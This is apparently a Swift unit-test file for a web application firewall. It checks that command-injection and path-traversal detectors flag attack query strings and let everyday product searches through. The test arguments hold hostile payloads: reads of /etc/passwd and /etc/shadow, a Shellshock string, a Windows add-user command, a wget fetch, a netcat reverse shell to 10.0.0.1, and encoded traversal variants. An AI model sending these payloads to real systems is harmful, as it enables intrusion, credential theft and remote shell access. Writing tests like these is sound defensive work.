import Testing
@testable import WAF


@Suite struct CommandInjectionTests {
    @Test(arguments: [
        ";+cat+/etc/passwd", "%7C+whoami", "%26%26+ls+-la", "$(id)", "%60uname+-a%60", "%0Aid", "1;sleep+5", "|+dir+C:%5C",
        "()+%7B+:;%7D;+/bin/bash+-c+%22id%22", "system('id')", "%26+net+user+hacker+pw+/ADD", "cat+/etc/hosts", "type+C:%5Cboot.ini",
        "%253B%2520wget%2520http://x/y",  // double-encoded
        ";+NC+-e+/bin/sh+10.0.0.1+4444",   // mixed case
    ])
    func commandsAfterMetacharactersAreFound(_ query: String) {
        #expect(queryFields(query).contains { CommandInjectionDetector.inspect($0.value) != nil }, "\(query)")
    }

    @Test(arguments: [
        "rock+%26+roll", "salt+%26+pepper", "cat+litter", "black+%7C+white", "Tom+%26+Jerry", "2+%26+more", "type+c+cable",
        "sleep+mask", "id+card+holder", "echo+dot", "fish+%26+chips", "bath+%26+body", "more+than+words", "ping+pong+paddles",
        "find+my+phone+case", "net+bag", "cups;+plates", "arts+%26+crafts",
    ])
    func everydayTextPasses(_ query: String) {
        #expect(!queryFields(query).contains { CommandInjectionDetector.inspect($0.value) != nil }, "\(query)")
    }
}

@Suite struct PathTraversalTests {
    @Test(arguments: [
        "../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fshadow", "%252e%252e%252fetc%252fpasswd", "..%5C..%5Cwindows%5Cwin.ini",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",      // overlong UTF-8 dots
        "..%c0%af..%c0%afetc%c0%afpasswd",             // overlong slash
        "%uff0e%uff0e%u2215etc%u2215passwd",           // full-width dot, division slash
        "/.../.../.../", "....//....//etc/hosts", "..0x2f..0x2fetc0x2fpasswd", "/proc/self/environ", "WEB-INF/web.xml",
        "./././././././etc", "file:///etc/passwd",
    ])
    func traversalsAreFound(_ query: String) {
        #expect(queryFields(query).contains { PathTraversalDetector.inspect($0.value) != nil }, "\(query)")
    }

    @Test(arguments: [
        "shoes/red.png", "GREEN...GREEN", "wait...+what", "1/2+cup", "etc.+planner", "passwd+manager+book", "hosts+of+gifts",
        "a+...+b", "size+10.5", "images/2024/summer.jpg", "rock+%26+roll",
    ])
    func ordinaryPathsAndTextPass(_ query: String) {
        #expect(!queryFields(query).contains { PathTraversalDetector.inspect($0.value) != nil }, "\(query)")
    }
}
